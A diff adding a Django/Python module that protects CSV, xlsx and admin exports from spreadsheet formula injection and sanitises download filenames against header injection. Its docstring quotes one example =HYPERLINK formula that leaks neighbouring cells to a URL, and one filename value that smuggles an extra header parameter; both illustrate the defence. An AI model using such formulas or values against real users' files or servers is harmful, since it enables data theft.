@@ -1,0 +1,214 @@
+"""Spreadsheets and downloads that cannot attack whoever opens them.
+
+Names typed by users (projects, products, programs...) end up in every export. A spreadsheet
+program runs a cell that starts with `=` (and, in a CSV, also `+`, `-`, `@`, tab or CR) as a
+formula: `=HYPERLINK("http://…?d="&C5,"clic")` leaks the neighbouring cells when clicked.
+
+- xlsx: every text is written as a text cell (never a formula), with its exact characters, so the
+  planning workbook re-imports unchanged. openpyxl turns a string starting with `=` into a
+  formula unless the cell's data type is forced; XlsxWriter's `write()` does the same unless the
+  workbook is opened with `XLSXWRITER_OPTIONS`.
+- CSV: a text cell starting with a dangerous character gets a leading `'` (OWASP, "CSV
+  Injection"); the csv module quotes any cell holding a separator, quote or line break.
+  Numbers stay numbers, negative ones included.
+- Downloads: `Content-Disposition` is built by Django from a sanitised name, so a BPIN such as
+  `1"; filename="x.html` cannot add a parameter or a header.
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+import unicodedata
+from decimal import Decimal
+
+from django.utils.http import content_disposition_header
+from openpyxl.cell.cell import ERROR_CODES as _OPENPYXL_ERROR_CODES
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# --- CSV ---------------------------------------------------------------------------------------
+
+CSV_DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+# A plain decimal literal: every spreadsheet reads it as a number, never as a formula.
+_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
+
+
+def csv_cell(value):
+    """The value to give the csv module for one cell: numbers unchanged, text neutralised."""
+    if value is None:
+        return ""
+    if isinstance(value, (int, float, Decimal)):  # bool is an int: written as True/False
+        return value
+    text = str(value)
+    if text.startswith(CSV_DANGEROUS_PREFIXES) and not _PLAIN_NUMBER.match(text):
+        return "'" + text
+    return text
+
+
+def csv_row(values) -> list:
+    return [csv_cell(v) for v in values]
+
+
+class SafeCSVWriter:
+    """`csv.writer` whose every cell goes through `csv_cell`."""
+
+    def __init__(self, fileobj, **fmtparams):
+        self._writer = csv.writer(fileobj, **fmtparams)
+
+    def writerow(self, values):
+        return self._writer.writerow(csv_row(values))
+
+    def writerows(self, rows):
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(fileobj, **fmtparams) -> SafeCSVWriter:
+    return SafeCSVWriter(fileobj, **fmtparams)
+
+
+# --- xlsx --------------------------------------------------------------------------------------
+
+# XlsxWriter: `write()` must never guess a formula, a link or a number from a string.
+XLSXWRITER_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+
+
+def _as_text(cell):
+    # openpyxl guesses 'f' (formula) for "=…" and 'e' (error) for "#N/A" and the like.
+    if isinstance(cell.value, str):
+        cell.data_type = "s"
+    return cell
+
+
+def put(ws, row: int, column: int, value):
+    """`ws.cell(row, column, value)` of openpyxl, with text always a text cell."""
+    cell = ws.cell(row=row, column=column)
+    cell.value = value
+    return _as_text(cell)
+
+
+def write_only_cell(ws, value):
+    """A cell for a write-only openpyxl sheet; text always a text cell."""
+    from openpyxl.cell import WriteOnlyCell
+
+    return _as_text(WriteOnlyCell(ws, value=value))
+
+
+def _read_as_other_than_text(value) -> bool:
+    # openpyxl's own guess for a string: a formula when it starts with "=", an error such as "#N/A".
+    return isinstance(value, str) and (value.startswith("=") or value in _OPENPYXL_ERROR_CODES)
+
+
+def write_only_value(ws, value):
+    """`value` for `ws.append()` of a write-only sheet: a text cell when openpyxl would not write
+    it as text, else unchanged (wrapping every string costs half as much again as the export)."""
+    return write_only_cell(ws, value) if _read_as_other_than_text(value) else value
+
+
+def write_only_row(ws, values) -> list:
+    return [write_only_value(ws, v) for v in values]
+
+
+def neutralise_workbook(wb) -> None:
+    """Turn any formula cell of an (ordinary, not write-only) openpyxl workbook into its text.
+
+    The application writes no formulas, so a formula cell can only be text that slipped past
+    `put`, e.g. `ws["A1"] = …`."""
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                _as_text(cell)
+
+
+def workbook_bytes(wb) -> bytes:
+    neutralise_workbook(wb)
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    return buffer.getvalue()
+
+
+# --- Download names ----------------------------------------------------------------------------
+
+MAX_NAME_LENGTH = 150
+# Characters never kept in a download name: those that end or split a header parameter or a path,
+# and those Windows refuses in a file name.
+_NAME_UNSAFE = re.compile(r'["\\/;:*?<>|]+')
+# Unicode categories dropped: controls, format (e.g. right-to-left override), line/paragraph separators.
+_DROPPED_CATEGORIES = {"Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"}
+
+
+def safe_filename(name, default: str = "descarga") -> str:
+    """A download name that is only a name: no quotes, separators, control characters or path."""
+    text = unicodedata.normalize("NFC", str(name or ""))
+    text = "".join(" " if unicodedata.category(ch) in _DROPPED_CATEGORIES else ch for ch in text)
+    text = _NAME_UNSAFE.sub("-", text)
+    text = " ".join(text.split()).strip(" .-")
+    if len(text) > MAX_NAME_LENGTH:
+        stem, dot, ext = text.rpartition(".")
+        if dot and 0 < len(ext) <= 5:
+            text = stem[: MAX_NAME_LENGTH - len(ext) - 1].rstrip(" .-") + "." + ext
+        else:
+            text = text[:MAX_NAME_LENGTH].rstrip(" .-")
+    return text or default
+
+
+def content_disposition(name, *, attachment: bool = True) -> str:
+    """The `Content-Disposition` value for a download called `name` (sanitised first)."""
+    return content_disposition_header(attachment, safe_filename(name))
+
+
+def set_download_name(response, name, *, attachment: bool = True):
+    response["Content-Disposition"] = content_disposition(name, attachment=attachment)
+    return response
+
+
+# --- The admin's exports (django-import-export) --------------------------------------------------
+# Its own `IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` only drops a leading "=" (changing the text and
+# missing "+", "-", "@"), so settings.EXPORT_FORMATS lists these instead. HTML is left out: a
+# spreadsheet program opening it runs formulas too.
+from import_export.formats import base_formats  # noqa: E402
+
+
+def _neutralised_dataset(dataset):
+    import tablib
+
+    out = tablib.Dataset(headers=csv_row(dataset.headers or []) or None, title=dataset.title)
+    for row in dataset:
+        out.append(csv_row(row))
+    return out
+
+
+class SafeCSV(base_formats.CSV):
+    def export_data(self, dataset, **kwargs):
+        return super().export_data(_neutralised_dataset(dataset), **kwargs)
+
+
+class SafeTSV(base_formats.TSV):
+    def export_data(self, dataset, **kwargs):
+        return super().export_data(_neutralised_dataset(dataset), **kwargs)
+
+
+class SafeXLSX(base_formats.XLSX):
+    def export_data(self, dataset, **kwargs):
+        import datetime as dt
+
+        from openpyxl import Workbook
+        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+        wb = Workbook()
+        ws = wb.active
+        ws.title = (dataset.title or "Hoja")[:31]
+        rows = ([dataset.headers] if dataset.headers else []) + [list(r) for r in dataset]
+        for r, row in enumerate(rows, start=1):
+            for c, value in enumerate(row, start=1):
+                if isinstance(value, dt.datetime) and value.tzinfo is not None:
+                    value = value.replace(tzinfo=None)
+                elif isinstance(value, str):
+                    value = ILLEGAL_CHARACTERS_RE.sub("-", value)
+                put(ws, r, c, value)
+        ws.freeze_panes = "A2"
+        return workbook_bytes(wb)
+
+
+ADMIN_EXPORT_FORMATS = [SafeCSV, SafeXLSX, SafeTSV, base_formats.JSON]
